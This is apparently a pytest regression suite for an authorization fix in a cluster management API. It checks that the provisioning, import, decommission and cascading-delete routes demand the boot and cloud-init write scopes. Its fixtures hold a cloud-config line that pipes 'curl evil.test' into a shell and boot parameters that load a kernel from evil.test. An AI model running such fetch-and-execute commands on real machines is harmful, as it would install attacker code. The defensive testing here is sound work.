"""Finding 1: a route that writes into another domain needs that domain's scope too.

`write:smd` alone was enough to set any node's kernel and user-data through
provisioning and import, and to delete them through decommissioning (or a
component or group delete, which cascades), while the boot parameter and
payload routes themselves answered 403.
"""

import httpx
import pytest

from tests.helpers.api import create, problem_of
from tests.helpers.tokens import token_for

BOOT = {"kernel": "http://evil.test/vmlinuz", "initrd": "http://evil.test/initrd", "cmdline": "init=/evil"}
CLOUD = {"userData": "#cloud-config\nruncmd: [curl evil.test | sh]\n"}


async def _client_with(api, anonymous, admin_app, dsn, name: str, scopes: list[str]) -> httpx.AsyncClient:
    role = await api.put(f"/auth/v1/roles/{name}", json={"scopes": scopes})
    assert role.status_code == 200, role.text
    token = await token_for(anonymous, dsn, f"{name}-bot", [name])
    return httpx.AsyncClient(transport=httpx.ASGITransport(app=admin_app), base_url="http://admin",
                             headers={"Authorization": f"Bearer {token}"})


@pytest.fixture
async def smd_only(api, anonymous, admin_app, dsn):
    async with await _client_with(api, anonymous, admin_app, dsn, "smd-writer", ["read:smd", "write:smd"]) as client:
        yield client


def insufficient(response, scope: str) -> None:
    body = problem_of(response, 403)
    assert scope in body["detail"], body
    assert body["type"] == "urn:chamicore:problem:insufficient-scope"
    challenge = response.headers["www-authenticate"]
    assert 'error="insufficient_scope"' in challenge and scope in challenge.split('scope="')[1].split('"')[0].split()


async def _own_entries(conn, node_id: str) -> tuple[int, int]:
    return (await conn.fetchval("SELECT count(*) FROM bss.boot_params WHERE component_id = $1", node_id),
            await conn.fetchval("SELECT count(*) FROM cloudinit.payloads WHERE component_id = $1", node_id))


async def test_the_dedicated_routes_already_refuse(smd_only, api):
    await create(api, "/hsm/v2/State/Components", {"metadata": {"id": "node-1"}, "spec": {"type": "Node"}})
    insufficient(await smd_only.post("/boot/v1/bootparams", json={"spec": {"componentId": "node-1", **BOOT}}),
                 "write:bss")
    insufficient(await smd_only.post("/cloud-init/payloads", json={"spec": {"componentId": "node-1", **CLOUD}}),
                 "write:cloudinit")


async def test_provision_needs_the_scope_of_what_its_body_writes(smd_only, api, conn):
    for dry in ("", "?dryRun=true"):
        insufficient(await smd_only.post(f"/hsm/v2/nodes/node-7/provision{dry}", json={"bootParams": BOOT}),
                     "write:bss")
        insufficient(await smd_only.post(f"/hsm/v2/nodes/node-7/provision{dry}", json={"cloudInit": CLOUD}),
                     "write:cloudinit")
    assert not await conn.fetchval("SELECT true FROM smd.components WHERE id = 'node-7'")
    assert await _own_entries(conn, "node-7") == (0, 0)
    # Inventory alone is still write:smd's to change.
    plain = await smd_only.post("/hsm/v2/nodes/node-7/provision", json={"nid": 7})
    assert plain.status_code == 200, plain.text
    # Removing (null) is a write too.
    done = await api.post("/hsm/v2/nodes/node-7/provision", json={"bootParams": BOOT, "cloudInit": CLOUD})
    assert done.status_code == 200, done.text
    insufficient(await smd_only.post("/hsm/v2/nodes/node-7/provision", json={"bootParams": None}), "write:bss")
    insufficient(await smd_only.post("/hsm/v2/nodes/node-7/provision", json={"cloudInit": None}), "write:cloudinit")
    assert await _own_entries(conn, "node-7") == (1, 1)


async def test_a_token_with_one_extra_scope_gets_only_that_part(api, anonymous, admin_app, dsn, conn):
    async with await _client_with(api, anonymous, admin_app, dsn, "smd-bss",
                                  ["read:smd", "write:smd", "write:bss"]) as client:
        ok = await client.post("/hsm/v2/nodes/node-8/provision", json={"bootParams": BOOT})
        assert ok.status_code == 200, ok.text
        insufficient(await client.post("/hsm/v2/nodes/node-8/provision", json={"bootParams": BOOT,
                                                                                 "cloudInit": CLOUD}),
                     "write:cloudinit")
    assert await _own_entries(conn, "node-8") == (1, 0)


async def test_import_needs_the_scope_of_what_its_items_write(smd_only, conn):
    for dry in ("", "?dryRun=true"):
        insufficient(await smd_only.post(f"/hsm/v2/import{dry}", json=[{"id": "imp-1"}, {"id": "imp-2",
                                                                                      "bootParams": BOOT}]),
                     "write:bss")
        insufficient(await smd_only.post(f"/hsm/v2/import{dry}", json=[{"id": "imp-1", "cloudInit": CLOUD}]),
                     "write:cloudinit")
    ndjson = b'{"id": "imp-3"}\n{"id": "imp-4", "bootParams": {"kernel": "http://evil.test/k"}}\n'
    insufficient(await smd_only.post("/hsm/v2/import", content=ndjson,
                                     headers={"Content-Type": "application/x-ndjson"}), "write:bss")
    assert not await conn.fetchval("SELECT count(*) FROM smd.components")
    plain = await smd_only.post("/hsm/v2/import", json=[{"id": "imp-1"}, {"id": "imp-2"}])
    assert plain.status_code == 201, plain.text


async def test_decommission_needs_the_scopes_of_what_it_deletes(smd_only, api, conn):
    done = await api.post("/hsm/v2/nodes/node-9/provision", json={"bootParams": BOOT, "cloudInit": CLOUD})
    assert done.status_code == 200, done.text
    for query in ("", "?dryRun=true", "?purge=true"):
        insufficient(await smd_only.post(f"/hsm/v2/nodes/node-9/decommission{query}"), "write:bss")
    assert await _own_entries(conn, "node-9") == (1, 1)
    await api.delete("/boot/v1/bootparams/node-9-boot")
    insufficient(await smd_only.post("/hsm/v2/nodes/node-9/decommission"), "write:cloudinit")
    await api.delete("/cloud-init/payloads/node-9-cloud-init")
    # Nothing of another domain left to delete: write:smd is enough.
    plain = await smd_only.post("/hsm/v2/nodes/node-9/decommission")
    assert plain.status_code == 200, plain.text


async def test_deletes_that_cascade_into_boot_data_need_its_scope(smd_only, api, conn):
    await create(api, "/hsm/v2/State/Components", {"metadata": {"id": "node-10"}, "spec": {"type": "Node"}})
    await create(api, "/hsm/v2/groups", {"metadata": {"id": "evil"}, "spec": {"name": "evil"}})
    await create(api, "/boot/v1/bootparams", {"metadata": {"id": "bp-node"}, "spec": {"componentId": "node-10",
                                                                                    **BOOT}})
    await create(api, "/cloud-init/payloads", {"metadata": {"id": "ci-group"}, "spec": {"group": "evil", **CLOUD}})
    insufficient(await smd_only.delete("/hsm/v2/State/Components/node-10"), "write:bss")
    insufficient(await smd_only.delete("/hsm/v2/groups/evil"), "write:cloudinit")
    assert await conn.fetchval("SELECT count(*) FROM bss.boot_params") == 1
    assert await conn.fetchval("SELECT count(*) FROM cloudinit.payloads") == 1
    assert (await api.delete("/hsm/v2/State/Components/node-10")).status_code == 204
    assert (await api.delete("/hsm/v2/groups/evil")).status_code == 204
